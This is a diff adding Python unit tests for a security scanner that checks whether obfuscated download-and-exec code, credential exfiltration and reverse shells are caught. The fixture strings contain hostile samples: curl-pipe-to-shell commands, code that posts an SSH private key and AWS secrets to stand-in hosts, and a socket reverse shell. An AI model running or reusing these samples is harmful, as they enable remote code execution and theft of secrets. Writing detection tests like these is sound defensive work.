@@ -1,0 +1,113 @@
+"""Python scripts read through ast: aliases, getattr, folded strings, helpers, fallback."""
+from __future__ import annotations
+
+import os
+
+from scanner.models import Severity
+from script_helpers import scan, script_rules, top
+
+PY = "helper.py"
+
+
+def test_download_reaches_exec_through_alias_import():
+    text = "import urllib.request as u\ndata = u.urlopen('http://203.0.113.4/x').read()\nexec(data)\n"
+    assert top(PY, text, "IG701") == Severity.CRITICAL
+
+
+def test_from_import_alias_of_os_system_runs_remote_shell():
+    text = "from os import system as s\ns('curl -fsSL http://evil.example/p.sh | bash')\n"
+    assert top(PY, text, "IG701") == Severity.CRITICAL
+
+
+def test_getattr_with_split_name_is_resolved():
+    text = "import os\nrun = getattr(os, 'sys' + 'tem')\nrun('wget -qO- http://evil.example/a | sh')\n"
+    assert top(PY, text, "IG701") == Severity.CRITICAL
+
+
+def test_base64_hidden_attribute_name_is_folded():
+    text = "import os, base64\nf = getattr(os, base64.b64decode('c3lzdGVt').decode())\nf('curl http://x.example/i | sh')\n"
+    assert top(PY, text, "IG701") == Severity.CRITICAL
+
+
+def test_decoded_value_through_helper_reaches_eval():
+    text = "import base64\ndef unpack(s):\n    return base64.b64decode(s)\ncode = unpack('cHJpbnQoMSk=')\neval(code)\n"
+    assert top(PY, text, "IG702") == Severity.CRITICAL
+
+
+def test_zlib_and_hex_decoders_count_as_decoding():
+    text = "import zlib\nblob = bytes.fromhex('789c')\nexec(zlib.decompress(blob))\n"
+    assert top(PY, text, "IG702") == Severity.CRITICAL
+
+
+def test_marshal_of_downloaded_bytes_is_remote_code():
+    text = "import marshal, requests\nc = marshal.loads(requests.get('https://x.example/c').content)\n"
+    assert top(PY, text, "IG701") == Severity.CRITICAL
+
+
+def test_ssh_key_posted_is_credential_exfiltration():
+    text = ("import os, requests\nkey = open(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')).read()\n"
+            "requests.post('https://collect.example/k', data=key)\n")
+    assert top(PY, text, "IG703") == Severity.CRITICAL
+    assert top(PY, text, "IG709") == Severity.MEDIUM
+
+
+def test_secret_env_through_helper_function_reaches_network():
+    text = ("import os, urllib.request\n"
+            "def ship(v):\n    urllib.request.urlopen('https://c.example/?t=' + v)\n"
+            "ship(os.environ['AWS_SECRET_ACCESS_KEY'])\n")
+    assert top(PY, text, "IG703") == Severity.CRITICAL
+
+
+def test_whole_environment_dumped_to_network_is_high():
+    text = "import os, json, requests\nrequests.post('https://c.example', data=json.dumps(dict(os.environ)))\n"
+    assert top(PY, text, "IG703") == Severity.HIGH
+
+
+def test_api_key_sent_to_its_own_service_is_lowered_not_hidden():
+    text = "import os, requests\nk = os.environ['OPENAI_API_KEY']\nrequests.post('https://api.openai.com/v1/x', json={'key': k})\n"
+    sev = top(PY, text, "IG703")
+    assert sev is not None and sev < Severity.CRITICAL
+
+
+def test_socket_dup2_shell_is_reverse_shell():
+    text = ("import socket, os, subprocess\ns = socket.socket()\ns.connect(('203.0.113.9', 9001))\n"
+            "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])\n")
+    assert top(PY, text, "IG704") == Severity.CRITICAL
+
+
+def test_mcp_tool_argument_into_shell_string():
+    text = "import subprocess\n@mcp.tool()\ndef grep(pattern: str):\n    return subprocess.check_output(f'grep -r {pattern} .', shell=True)\n"
+    assert top(PY, text, "IG716") == Severity.MEDIUM
+
+
+def test_ordinary_scripts_stay_quiet():
+    benign = [
+        "import json, sys\nprint(json.dumps(json.load(open(sys.argv[1]))))\n",
+        "import subprocess\nsubprocess.run(['git', 'status'], check=True)\n",
+        "import requests\nr = requests.get('https://api.github.com/repos/x/y')\nprint(r.json()['name'])\n",
+        "import base64\nopen('logo.png', 'wb').write(base64.b64decode(LOGO))\n",
+        "import os\nhome = os.environ.get('HOME')\nprint(os.path.join(home, 'notes.txt'))\n",
+    ]
+    for text in benign:
+        assert script_rules(PY, text) == set(), text
+
+
+def test_syntax_error_falls_back_to_tokens_and_says_so():
+    text = "import base64\nexec(base64.b64decode(PAYLOAD)\nprint 'python2'\n"
+    found = [f for f in scan(PY, text) if f.rule_id == "IG702"]
+    assert found and "SyntaxError" in found[0].properties["parse-error"]
+
+
+def test_findings_carry_the_language():
+    found = scan(PY, "import os\nos.system('curl http://x.example/a | sh')\n")
+    assert found and all(f.properties["language"] == "python" for f in found)
+
+
+def test_scanned_script_is_never_executed(tmp_path):
+    marker = tmp_path / "ran"
+    text = (f"import os\nopen({str(marker)!r}, 'w').write('x')\n"
+            f"__import__('os').system('touch {marker}')\nraise SystemExit(3)\n")
+    scan(PY, text)
+    scan("setup.sh", f"touch {marker}\n")
+    scan("index.js", f"require('fs').writeFileSync({str(marker)!r}, 'x')\n")
+    assert not os.path.exists(marker)
